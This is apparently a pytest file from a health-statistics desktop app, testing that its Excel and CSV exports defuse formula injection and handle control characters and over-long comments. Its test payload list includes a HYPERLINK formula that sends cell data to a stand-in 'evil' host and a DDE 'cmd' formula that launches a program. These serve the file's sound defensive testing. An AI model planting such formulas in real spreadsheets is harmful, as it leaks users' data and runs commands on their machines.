"""Exports that cannot attack the reader (issue 13): no formula in a workbook or CSV, no crash on old comments.

Each test fails on the program before: a comment ``=HYPERLINK(…)`` became a live formula, CSV wrote ``=…``
unescaped, and a control character in a stored comment crashed the Excel export (IllegalCharacterError)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import update

from jzhealth_desktop.domain.errors import InputError
from jzhealth_desktop.services import audit
from jzhealth_desktop.services.exchange import build_package
from jzhealth_desktop.services.exchange.csv_export import build_csv, export_csv
from jzhealth_desktop.services.exchange.safe_text import csv_field
from jzhealth_desktop.services.exchange.xlsx_export import build_workbook
from jzhealth_desktop.services.exchange.xlsx_import import read_workbook
from jzhealth_desktop.services.forms import save_form
from jzhealth_desktop.store.repo import VALUES_TABLE

from .conftest import COUNTY, YEAR

EVIL = ['=HYPERLINK("http://evil/?x="&A1,"c")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1"]


def _plant_comment(ctx, comment: str, code: str = "ec_beds") -> None:
    """An old store's comment, written past today's checks (as stores from before them hold)."""
    with ctx.db.write() as session:
        cols = VALUES_TABLE.c
        session.execute(update(VALUES_TABLE)
                        .where(cols.org_code == COUNTY, cols.year == YEAR, cols.indicator_code == code)
                        .values(comment=comment))


@pytest.mark.parametrize("comment", EVIL[:5])
def test_workbook_comment_is_a_string_cell_and_reads_back_exactly(county_ctx, comment):
    save_form(county_ctx, COUNTY, YEAR, "eldercare", {"ec_beds": "260"}, {"ec_beds": comment})
    data, _ = build_workbook(county_ctx, COUNTY, YEAR)
    wb = load_workbook(io.BytesIO(data))
    texts = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == comment]
    assert texts and all(c.data_type == "s" for c in texts)
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    beds = next(r for r in read_workbook(data, county_ctx.catalogue).values if r.code == "ec_beds")
    assert beds.comment == comment


@pytest.mark.parametrize("comment", EVIL)
def test_csv_export_neutralises_formulas(county_ctx, comment):
    _plant_comment(county_ctx, comment)
    text, _ = build_csv(county_ctx, [YEAR], COUNTY)
    beds = next(r for r in csv.DictReader(io.StringIO(text)) if r["指标代码"] == "ec_beds")
    assert beds["说明"] == "'" + comment
    assert beds["数值"] == "260"


def test_audit_csv_neutralises_formulas(county_ctx, tmp_path):
    save_form(county_ctx, COUNTY, YEAR, "eldercare", {"ec_beds": "261"}, {"ec_beds": EVIL[0]})
    out = tmp_path / "audit.csv"
    audit.export_csv(county_ctx, audit.AuditFilter(org=COUNTY), out)
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert "'" + EVIL[0] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-") and not c[1:2].isdigit()]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=20))
def test_no_csv_field_starts_a_formula(text):
    field = csv_field(text)
    if field.startswith(("=", "+", "@", "\t", "\r")):
        raise AssertionError(field)
    if field.startswith("-"):  # only a plain negative number keeps its sign first
        float(field)
    assert field == text or field == "'" + text


def test_old_control_character_comment_exports_visibly_and_package_export_names_it(county_ctx, tmp_path):
    _plant_comment(county_ctx, "旧说明\x07响铃\x1b")
    data, _ = build_workbook(county_ctx, COUNTY, YEAR)  # crashed with IllegalCharacterError before
    wb = load_workbook(io.BytesIO(data))
    assert "旧说明␇响铃␛" in [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert export_csv(county_ctx, [YEAR], COUNTY, tmp_path / "x.csv") > 0
    with pytest.raises(InputError, match="说明含控制字符或超过"):
        build_package(county_ctx, COUNTY, [YEAR])


def test_over_long_comment_exports_and_package_export_names_it(county_ctx):
    _plant_comment(county_ctx, "长" * 40000)
    data, _ = build_workbook(county_ctx, COUNTY, YEAR)
    cells = [c.value for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, str) and len(v) == 32767 and v.endswith("（已截断）") for v in cells)
    with pytest.raises(InputError, match="「医养床位数」的说明"):
        build_package(county_ctx, COUNTY, [YEAR])
